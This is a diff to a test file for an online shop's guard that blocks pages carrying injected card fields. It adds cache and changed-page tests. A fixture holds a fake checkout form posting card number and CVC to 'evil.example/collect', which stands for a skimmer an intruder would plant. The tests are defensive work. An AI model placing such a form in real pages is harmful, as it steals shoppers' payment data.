@@ -4,6 +4,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DATABASES } from '../../test/support/databases.ts';
 import { startTestShop, type TestShop } from '../../test/support/test-shop.ts';
 import { buildShopApp } from '../app.ts';
+import { cleanVerdictCache } from './outgoing-card-field-guard.ts';
+import { mayContainCardFields } from './card-field-detector.ts';
 import { isCardPaymentPaused } from '../shop-pause/shop-pause.ts';
 import { listOpenAlerts } from '../alerts/raise-alert.ts';
 import { CART_COOKIE } from '../http/cookies.ts';
@@ -12,15 +14,31 @@ import { messagesFor } from '../i18n/locale.ts';
 const FAKE_FORM = '<!doctype html><html><body><form action="https://evil.example/collect" method="post">'
   + '<label>カード番号 <input name="cardNo" inputmode="numeric"></label><input name="cvc"></form></body></html>';
 
+const CLEAN_FORM = '<!doctype html><html><body><form action="/cart" method="post">'
+  + '<label>数量 <input name="quantity" inputmode="numeric"></label></form></body></html>';
+
+describe('outgoing card-field guard verdict cache', () => {
+  it('keeps at most its limit of clean verdicts, dropping the oldest', () => {
+    const cache = cleanVerdictCache(2);
+    cache.add('a'); cache.add('b'); cache.add('c');
+    expect(cache.size).toBe(2);
+    expect(cache.has('a')).toBe(false);
+    expect(cache.has('c')).toBe(true);
+  });
+});
+
 for (const database of DATABASES) {
   describe(`outgoing card-field guard on ${database.name}`, () => {
     let shop: TestShop;
     let tampered: Awaited<ReturnType<typeof buildShopApp>>;
+    let body = CLEAN_FORM;
     beforeAll(async () => {
       shop = await startTestShop(database);
       // The same shop with one view altered, as an intruder would leave it.
       tampered = await buildShopApp({ shop: shop.context, logger: false });
       tampered.get('/tampered-checkout', async (_request, reply) => reply.type('text/html; charset=utf-8').send(FAKE_FORM));
+      // A route whose body changes between responses, as a cached page an intruder then alters.
+      tampered.get('/changing', async (_request, reply) => reply.type('text/html; charset=utf-8').send(body));
       await tampered.ready();
     });
     afterAll(async () => {
@@ -67,6 +85,21 @@ for (const database of DATABASES) {
       const page = await shop.app.inject({ url: '/checkout?lang=en', cookies: { [CART_COOKIE]: cartId } });
       expect(page.statusCode).toBe(200);
       expect(page.body).toContain(messagesFor('en').errors.checkoutPaused);
+    });
+
+    it('a body once passed and then changed gets a new verdict: the changed one is withheld', async () => {
+      // A clean page that passes the cheap pre-check (a hidden field named like one), so its clean verdict is parsed and cached.
+      body = CLEAN_FORM.replace('</form>', '<input type="hidden" name="card_number_hint" value="x"></form>');
+      expect(mayContainCardFields(body)).toBe(true);
+      for (let i = 0; i < 2; i++) {
+        const ok = await tampered.inject({ url: '/changing' });
+        expect(ok.statusCode).toBe(200);
+        expect(ok.body).toBe(body);
+      }
+      body = body.replace('</form>', '<input name="cvc" autocomplete="cc-csc"></form>');
+      const r = await tampered.inject({ url: '/changing' });
+      expect(r.statusCode).toBe(503);
+      expect(r.body).not.toContain('cvc');
     });
   });
 }
